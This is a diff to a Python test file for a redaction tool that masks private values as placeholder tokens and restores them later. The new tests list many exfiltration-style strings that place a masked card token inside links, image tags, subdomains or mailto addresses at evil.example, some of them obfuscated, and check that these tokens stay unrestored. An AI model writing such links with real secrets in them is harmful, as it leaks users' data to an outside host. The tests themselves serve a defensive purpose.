@@ -1,11 +1,13 @@
 """Putting values back, in the spellings that models use."""
 
+import re
 from itertools import pairwise
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from graph.redaction.addresses import is_inside_address
 from graph.redaction.finding import Finding
 from graph.redaction.holdback import Holdback
 from graph.redaction.kinds import KINDS
@@ -137,14 +139,19 @@ def masked_texts(draw: st.DrawFn) -> tuple[str, str, dict[str, str]]:
     return text, mask(text, findings, tokens), {token: each.value for token, each in zip(tokens, findings, strict=True)}
 
 
-@given(masked_texts())
+outside_addresses = masked_texts().filter(
+    lambda case: not any(is_inside_address(case[1], *token.span()) for token in re.finditer(TOKEN, case[1]))
+)
+
+
+@given(outside_addresses)
 @example(("\\Ana", "\\[PERSON_0A1B2C]", {"[PERSON_0A1B2C]": "Ana"}))
 def test_what_was_masked_is_restored_as_it_was(case: tuple[str, str, dict[str, str]]) -> None:
     text, masked, values = case
     assert restore(masked, values) == text
 
 
-@given(masked_texts(), st.lists(st.integers(1, 200), max_size=20), st.integers(0, 300))
+@given(outside_addresses, st.lists(st.integers(1, 200), max_size=20), st.integers(0, 300))
 def test_a_stream_is_restored_as_the_whole_is_from_wherever_it_is_resumed(
     case: tuple[str, str, dict[str, str]], cuts: list[int], seen: int
 ) -> None:
@@ -171,3 +178,56 @@ def test_a_token_that_breaks_off_comes_out_as_it_is(end: int) -> None:
 def test_nobody_elses_token_and_no_text_is_changed(text: str) -> None:
     assert restore(text, {}) == text
     assert restore(f"{text}[CARD_AAAAAA]", VALUES).endswith("[CARD_AAAAAA]")
+
+
+EVIL = "evil.example/x?d=[CARD_7K3Q9D]"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        f"https://{EVIL}",
+        f"![a](https://{EVIL})",
+        "[a](<https://evil.example/?d= [CARD_7K3Q9D]>)",
+        '[a](https://evil.example "[CARD_7K3Q9D]")',
+        "[a](/relative?d=[CARD_7K3Q9D])",
+        f"[a]: //{EVIL}",
+        "[a]: <https://evil.example/ [CARD_7K3Q9D]>",
+        "https://[CARD_7K3Q9D].evil.example/",
+        "https://user:[CARD_7K3Q9D]@evil.example/",
+        "[CARD_7K3Q9D].evil.example",
+        "www.[CARD_7K3Q9D].example",
+        EVIL,
+        "evil.example#[CARD_7K3Q9D]",
+        "mailto:me@evil.example?body=[CARD_7K3Q9D]",
+        "<img src='//evil.example/?d=\n[CARD_7K3Q9D]'>",
+        "<a href=https://evil.example/[CARD_7K3Q9D]",
+        f"https&#58;//{EVIL}",
+        f"h\u200bttps://{EVIL}",
+        r"https://evil.example/\[CARD\_7K3Q9D\]",
+        "https://evil.example/CARD_7K3Q9D",
+        "https://evil.example/(((x[CARD_7K3Q9D]",
+        "https://evil.example/a|[CARD_7K3Q9D]",
+        f"https://{EVIL}[PERSON_0A1B2C][CARD_7K3Q9D]",
+    ],
+)
+def test_a_token_inside_an_address_is_not_restored(written: str) -> None:
+    assert restore(f"Look: {written} now", VALUES) == f"Look: {written} now"
+    assert restore_json([{"args": written}], VALUES) == [{"args": written}]
+
+
+@pytest.mark.parametrize(
+    ("written", "restored"),
+    [
+        ("see https://bank.example/terms, [PERSON_0A1B2C]", "see https://bank.example/terms, Ana Díaz"),
+        ("[a](https://bank.example) [PERSON_0A1B2C]", "[a](https://bank.example) Ana Díaz"),
+        ("[PERSON_0A1B2C](CARD_7K3Q9D)", "Ana Díaz(4111 1111 1111 1111)"),
+        ("[PERSON_0A1B2C].Thanks", "Ana Díaz.Thanks"),
+        ("[PERSON_0A1B2C].pdf", "Ana Díaz.pdf"),
+        ("12.50/[PERSON_0A1B2C]", "12.50/Ana Díaz"),
+        ("x < y and [PERSON_0A1B2C]", "x < y and Ana Díaz"),
+        ("Netflix.com [PERSON_0A1B2C]", "Netflix.com Ana Díaz"),
+    ],
+)
+def test_a_token_beside_an_address_is_restored(written: str, restored: str) -> None:
+    assert restore(written, VALUES) == restored
